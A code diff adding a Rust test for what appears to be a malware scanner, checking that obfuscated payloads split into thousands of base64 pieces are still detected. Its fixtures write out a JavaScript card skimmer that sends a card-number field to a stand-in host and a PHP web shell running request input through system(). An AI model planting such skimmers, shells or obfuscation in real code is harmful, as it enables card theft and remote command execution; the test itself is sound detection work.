@@ -359,6 +359,48 @@ fn megabytes_of_base64_are_decoded_and_scanned() {
 }
 
 #[test]
+fn a_payload_built_from_thousands_of_pieces_is_folded_in_both_languages() {
+    // Remembering every prefix of the chain used to cost the decoded-bytes cap in JavaScript,
+    // so the whole string was lost; both folders now keep checkpoints only.
+    let dir = tree();
+    let mut payload = String::from("var n = document.getElementById('cc_number').value;\n");
+    payload.push_str("navigator.sendBeacon('https://x.example/c', n);\n/*");
+    payload.push_str(&"x".repeat(100_000));
+    payload.push_str("*/\n");
+    let b64 = base64::engine::general_purpose::STANDARD.encode(&payload);
+    let pieces: Vec<String> = b64
+        .as_bytes()
+        .chunks(64)
+        .map(|c| format!("'{}'", String::from_utf8_lossy(c)))
+        .collect();
+    std::fs::write(
+        dir.path().join("pieces.js"),
+        format!("var p = {};\neval(atob(p));\n", pieces.join(" + ")),
+    )
+    .unwrap();
+    let php = base64::engine::general_purpose::STANDARD
+        .encode(format!("system($_GET['c']); /*{}*/", "x".repeat(100_000)));
+    let php_pieces: Vec<String> = php
+        .as_bytes()
+        .chunks(64)
+        .map(|c| format!("'{}'", String::from_utf8_lossy(c)))
+        .collect();
+    std::fs::write(
+        dir.path().join("pieces.php"),
+        format!(
+            "<?php\n$p = {};\neval(base64_decode($p));\n",
+            php_pieces.join(" . ")
+        ),
+    )
+    .unwrap();
+    scan(dir.path(), &[])
+        .kept_skimmer()
+        .finding("pieces.js", "js/card-data-exfiltration")
+        .no_warning_for("pieces.js")
+        .finding("pieces.php", "php/eval-of-request-data")
+        .no_warning_for("pieces.php");
+}
+#[test]
 fn base64_nested_forty_layers_stops_at_the_layer_cap() {
     let dir = tree();
     let mut code = String::from("eval($_POST['x']);");
